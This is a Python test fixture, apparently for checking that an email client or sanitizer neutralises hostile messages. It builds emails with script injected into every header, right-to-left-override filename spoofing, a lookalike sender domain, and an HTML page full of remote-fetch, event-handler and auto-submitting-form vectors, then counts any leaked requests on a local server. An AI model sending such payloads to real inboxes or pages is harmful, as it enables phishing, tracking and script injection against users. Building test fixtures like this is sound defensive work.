"""Messages that try to be more than text, and a server that notes whoever comes to it."""

import http.server
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager

SCRIPT = "</title></textarea><script>document.title='owned'</script><b onclick='x'>"
TURNED = "\u202e\u2066\u200fgpj.exe"
HEADERS = ("Subject", "To", "Cc", "Reply-To", "Date", "Message-ID", "In-Reply-To", "References", "X-Mailer")


def layout(away: str) -> str:
    """HTML with everything that makes a browser ask elsewhere; ``away`` is an address of another origin."""
    return f"""<html><head><base href="{away}/base/">
    <meta http-equiv="refresh" content="0;url={away}/refresh">
    <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
    <link rel="stylesheet" href="{away}/link.css"><link rel="preload" as="image" href="{away}/preload">
    <link rel="prefetch" href="{away}/prefetch"><link rel="dns-prefetch preconnect" href="{away}">
    <link rel="icon" href="{away}/icon"><script src="{away}/script.js"></script>
    <style>@import "{away}/import.css"; @font-face {{ font-family: f; src: url({away}/font) }}
    body, main, header {{ background: url({away}/style.png); font-family: f }}
    </style></head>
    <body background="{away}/background.png" onload="fetch('{away}/onload')">
    <h2>Trip</h2>
    <p style="background: url({away}/inline.png); position: fixed; inset: 0">Please <em>pay</em></p>
    <img src="{away}/img.png" srcset="{away}/set.png 2x" alt="a &lt;script&gt;bus&lt;/script&gt;"
      onerror="fetch('{away}/onerror')"><img src="/flags/1/resolve">
    <picture><source srcset="{away}/source.webp"><img src="x"></picture>
    <input type="image" src="{away}/input.png">
    <svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{away}/svg.png"/>
      <use href="{away}/use.svg#a"/><script>fetch("{away}/svgscript")</script>
      <style>rect {{ fill: url({away}/fill) }}</style>
      <foreignObject><img src="{away}/foreign.png"></foreignObject>
      <a href="{away}/svga"><text>t</text></a></svg>
    <math><mtext><img src="{away}/math.png"></mtext></math>
    <video src="{away}/video" poster="{away}/poster" autoplay><track src="{away}/track" default></video>
    <audio src="{away}/audio" autoplay></audio><iframe src="{away}/iframe"></iframe>
    <iframe srcdoc="<img src='{away}/srcdoc.png'>"></iframe><frameset><frame src="{away}/frame"></frameset>
    <object data="{away}/object"></object><embed src="{away}/embed"><applet archive="{away}/applet"></applet>
    <form id="f" action="{away}/form" method="post">
      <input name="password" autofocus onfocus="this.form.submit()">
      <button formaction="{away}/button">Sign in</button></form>
    <a href="{away}/followed" ping="{away}/ping" target="_top">the portal</a>
    <a href="javascript:fetch('{away}/js')">click</a><table background="{away}/table.png"><tr>
      <td background="{away}/cell.png">1 May</td></tr></table>
    <marquee onstart="fetch('{away}/marquee')">m</marquee>
    <details open ontoggle="fetch('{away}/toggle')">d</details>
    <noscript><p title="</noscript><img src={away}/noscript.png>"></noscript>
    <template shadowrootmode="open"><img src="{away}/shadow.png"></template>
    <p id="main" class="card" name="cookie">styled as ours</p></body></html>"""


def still(html: str) -> str:
    """The same without what moves by itself: a browser that is let loose on it comes to rest."""
    return re.sub(r'<script.*?</script>| on\w+="[^"]*"|<meta http-equiv[^>]*>| autofocus| autoplay', "", html)


def letter(away: str, *, text: str = SCRIPT) -> bytes:
    """A message with script in every header and in every part, as it comes over the wire."""
    headers = [f"{name}: {SCRIPT}{TURNED}" for name in HEADERS]
    headers.append(f'From: "{SCRIPT.replace(chr(34), "")} head@oakfield.example" <x@oakfie1d.example>')
    script = f'Content-Type: image/svg+xml; name="{SCRIPT}"'
    turned = f'Content-Disposition: attachment; filename="invoice{TURNED}"'
    page = f'Content-Type: text/html\r\nContent-Disposition: attachment; filename="{SCRIPT}.html"'
    alternatives = [
        f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\0{TURNED}",
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{layout(away)}",
    ]
    attached = [
        f'{script}\r\n{turned}\r\n\r\n<svg onload="alert(1)"/>',
        f"{page}\r\n\r\n{layout(away)}",
    ]
    inner = "".join(f"--i\r\n{part}\r\n" for part in alternatives) + "--i--\r\n"
    outer = [f'Content-Type: multipart/alternative; boundary="i"\r\n\r\n{inner}', *attached]
    body = "".join(f"--o\r\n{part}\r\n" for part in outer) + "--o--\r\n"
    return "\r\n".join([*headers, 'Content-Type: multipart/mixed; boundary="o"', "", body]).encode()


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Yield the address of another origin, and the list of what is asked of it."""
    asked: list[str] = []

    class Noting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the library's names

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
